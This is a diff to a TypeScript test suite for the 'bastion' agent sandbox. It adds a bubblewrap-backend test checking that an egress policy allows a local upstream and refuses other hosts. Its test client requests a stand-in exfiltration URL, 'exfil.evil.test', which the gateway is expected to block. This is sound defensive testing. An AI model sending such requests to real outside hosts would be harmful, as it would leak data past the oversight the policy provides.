@@ -5,6 +5,7 @@ import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describeWithDocker } from '../test-support/docker-suite';
+import { describeWithBwrap } from '../executor/bwrap/bwrap-suite';
 
 const ROOT = join(__dirname, '../../../..');
 const BIN = join(ROOT, 'packages/agent-runtime/bin/bastion.cjs');
@@ -34,11 +35,12 @@ function execJson(args: string[]): Promise<{ status: number | null; doc: Record<
   });
 }
 
-describeWithDocker('bastion exec --policy with egress (real engine, issue 22)', () => {
-  let upstream: Server;
-  let port: number;
-  let dir: string;
+let upstream: Server;
+let port: number;
+let dir: string;
 
+/** The test's own upstream and an egress policy that allows it by name. */
+function withUpstreamAndPolicy(): void {
   beforeAll(async () => {
     if (!existsSync(join(ROOT, 'packages/agent-runtime/dist/bastion.cjs'))) spawnSync(process.execPath, [join(ROOT, 'scripts/build.mjs')], { stdio: 'inherit' });
     // The test's own upstream on the host's loopback: only the host-side gateway can reach it.
@@ -65,6 +67,10 @@ describeWithDocker('bastion exec --policy with egress (real engine, issue 22)', 
     await new Promise<void>((resolve) => upstream.close(() => resolve()));
     rmSync(dir, { recursive: true, force: true });
   });
+}
+
+describeWithDocker('bastion exec --policy with egress (real engine, issue 22)', () => {
+  withUpstreamAndPolicy();
 
   it('reaches an allowed host through the gateway with the agents’ proxy env, and is refused for any other', async () => {
     const { status, doc } = await execJson(['--policy', join(dir, 'egress.yaml'), '--', 'node', '-e', CLIENT, `http://localhost:${port}/allowed`, 'http://exfil.evil.test/x']);
@@ -82,5 +88,15 @@ describeWithDocker('bastion exec --policy with egress (real engine, issue 22)', 
     expect(status).toBe(0);
     // No proxy, no route, no DNS: the name does not even resolve.
     expect(doc.stdout).toMatch(/^env undefined undefined\n(EAI_AGAIN|ENOTFOUND)\n$/);
+  }, 60_000);
+});
+
+describeWithBwrap('bastion exec --policy with egress on bubblewrap (issue 22)', () => {
+  withUpstreamAndPolicy();
+
+  it('reaches an allowed host through the gateway and is refused for any other, as on Docker', async () => {
+    const { status, doc } = await execJson(['--backend', 'bwrap', '--policy', join(dir, 'egress.yaml'), '--', 'node', '-e', CLIENT, `http://localhost:${port}/allowed`, 'http://exfil.evil.test/x']);
+    expect(status).toBe(0);
+    expect(doc.stdout.split('\n')).toEqual(['env http://127.0.0.1:8080 127.0.0.1,localhost', `200 upstream saw /allowed`, "403 bastion egress gateway: exfil.evil.test is not in the policy's allow list", '']);
   }, 60_000);
 });
